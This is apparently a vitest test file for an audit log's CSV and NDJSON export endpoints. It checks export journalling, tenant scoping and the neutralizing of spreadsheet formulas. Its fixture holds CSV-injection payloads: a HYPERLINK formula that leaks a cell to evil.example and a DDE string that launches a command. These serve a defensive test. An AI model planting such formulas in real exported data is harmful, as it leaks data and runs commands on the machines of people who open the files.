/**
 * Exports of the journal over HTTP: CSV and NDJSON of a filter (`GET /api/v1/events/export`) and evidence bundles
 * (`GET /api/v1/logs/{tenant}/export`). Each is journalled (JournalExported, with the caller and the IP) every
 * time, not folded into the once-a-minute JournalRead; CSV cells that would run as formulas are neutralized.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { systemEvents, createUserAndSignIn } from '../test-support/access-helpers.js';
import { startTestServer, TEST_NOW_MS } from '../test-support/test-server.js';
import type { TestServer } from '../test-support/test-server.js';
import { parseCsvRows } from '../test-support/csv-rows.js';

const EXPORTED = 32000;
const READ = 32012;
const HOUR = `from=${new Date(TEST_NOW_MS - 3_600_000).toISOString()}&to=${new Date(TEST_NOW_MS + 1000).toISOString()}`;

/** Values a spreadsheet would run as formulas (OWASP CSV injection), each in a field a producer controls. */
const FORMULAS = {
  text: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  userId: '@SUM(1+1)*cmd|" /C calc"!A0',
  entityData: '+1-2',
  ip: '10.0.0.1',
};

let t: TestServer;
beforeAll(async () => {
  t = await startTestServer();
  const seeded = await t.request({
    method: 'POST',
    url: '/api/v1/events',
    payload: [
      { event: 2001, ...FORMULAS, createdAt: new Date(TEST_NOW_MS - 60_000).toISOString() },
      { event: 2004, tenantId: 'acme', userId: 'bob', text: '-1 attempts left', createdAt: new Date(TEST_NOW_MS - 30_000).toISOString() },
      ...Array.from({ length: 1500 }, (_, i) => ({
        event: 100,
        userId: 'svc-ocr',
        entityData: { n: i },
        createdAt: new Date(TEST_NOW_MS - 2_000_000 + i).toISOString(),
      })),
    ],
  });
  expect(seeded.statusCode).toBe(201);
});
afterAll(async () => {
  await t.close();
});

describe('GET /api/v1/events/export', () => {
  it('streams every record of the filter as CSV, header first, with formula-like cells neutralized', async () => {
    const res = await t.request({ method: 'GET', url: `/api/v1/events/export?format=csv&${HOUR}&not.event=100&not.tenantId=tamga` });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="tamga-events-\d{8}T\d{6}Z-\d{8}T\d{6}Z\.csv"$/);
    expect(res.headers['x-tamga-record-count']).toBe('2');
    expect(res.body.startsWith('\uFEFFindex,id,event,eventName,classifiedEvent,createdAt,apiCreatedAt,userId,ip,tenantId')).toBe(true);
    const [header, ...rows] = parseCsvRows(res.body.slice(1));
    expect(rows).toHaveLength(2);
    const cell = (row: string[], name: string): string => row[header!.indexOf(name)]!;
    const [acme, formulas] = rows as [string[], string[]];
    expect(cell(formulas, 'index')).toBe('2');
    expect(cell(formulas, 'text')).toBe(`'${FORMULAS.text}`);
    expect(cell(formulas, 'userId')).toBe(`'${FORMULAS.userId}`);
    expect(cell(formulas, 'entityData')).toBe(`'${FORMULAS.entityData}`);
    expect(cell(formulas, 'ip')).toBe(FORMULAS.ip);
    expect(cell(formulas, 'validSignature')).toBe('true');
    expect(cell(acme, 'text')).toBe("'-1 attempts left");
    expect(cell(acme, 'tenantId')).toBe('acme');
  });

  it('streams NDJSON exactly as the paged query returns the records, over many pages', async () => {
    const res = await t.request({ method: 'GET', url: `/api/v1/events/export?${HOUR}&userId=svc-ocr&order=asc` });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    const lines = res.body.trimEnd().split('\n').map((l) => JSON.parse(l) as { id: string; index: number; entityData: { n: number } });
    expect(lines).toHaveLength(1500);
    expect(lines.map((r) => r.index)).toEqual(lines.map((_, i) => i + 1));
    expect(lines.map((r) => r.entityData.n)).toEqual(lines.map((_, i) => i));
    const first = await t.request({ method: 'GET', url: `/api/v1/events?${HOUR}&userId=svc-ocr&order=asc&limit=1000` });
    expect(lines.slice(0, 1000)).toEqual(first.json<{ items: unknown[] }>().items);
  });

  it('refuses an unknown format, naming the parameter, and journals nothing', async () => {
    const before = (await systemEvents(t, [EXPORTED])).length;
    const res = await t.request({ method: 'GET', url: `/api/v1/events/export?format=xlsx&${HOUR}` });
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ code: 'VALIDATION_FAILED', field: 'format' });
    expect(await systemEvents(t, [EXPORTED])).toHaveLength(before);
  });
});

describe('journalling of exports', () => {
  it('journals every CSV and NDJSON export and every bundle, with tenant, filter, count, caller and IP', async () => {
    const before = (await systemEvents(t, [EXPORTED])).length;
    const reads = (await systemEvents(t, [READ])).length;
    const auditor = await createUserAndSignIn(t, { login: 'carol', roles: ['tenant-auditor'], tenants: ['acme'] }, '192.0.2.44');
    // Three exports within a second: each leaves its own trace (none is folded into the read throttle).
    const csv = await auditor.request({ method: 'GET', url: `/api/v1/events/export?format=csv&${HOUR}` });
    const ndjson = await auditor.request({ method: 'GET', url: `/api/v1/events/export?format=ndjson&${HOUR}&event=2004` });
    const bundle = await auditor.request({ method: 'GET', url: `/api/v1/logs/acme/export?${HOUR}` });
    expect([csv.statusCode, ndjson.statusCode, bundle.statusCode]).toEqual([200, 200, 200]);
    const exported = (await systemEvents(t, [EXPORTED])).slice(before);
    expect(exported).toHaveLength(3);
    for (const e of exported) expect(e).toMatchObject({ userId: 'carol', ip: '192.0.2.44', operationKey: expect.any(String) });
    const [a, b, c] = exported.map((e) => e.entityData as Record<string, unknown>);
    // A tenant auditor's export is of their tenants only, whatever the filter asked.
    expect(a).toEqual({ format: 'csv', tenants: ['acme'], filter: `format=csv&${HOUR}`, records: 1 });
    expect(b).toEqual({ format: 'ndjson', tenants: ['acme'], filter: `format=ndjson&${HOUR}&event=2004`, records: 1 });
    expect(c).toMatchObject({ format: 'bundle', tenant: 'acme', origin: 'tamga/acme', records: 1 });
    // The exports are not journalled a second time as reads.
    expect(await systemEvents(t, [READ])).toHaveLength(reads);
  });

  it('journals an administrator export of every tenant as "all"', async () => {
    const before = (await systemEvents(t, [EXPORTED])).length;
    const res = await t.request({ method: 'GET', url: `/api/v1/events/export?${HOUR}&not.event=100&not.tenantId=tamga`, remoteAddress: '2001:db8::7' });
    expect(res.statusCode).toBe(200);
    const [e] = (await systemEvents(t, [EXPORTED])).slice(before);
    expect(e).toMatchObject({ ip: '2001:db8::7', entityData: { format: 'ndjson', tenants: 'all', records: 2 } });
  });
});
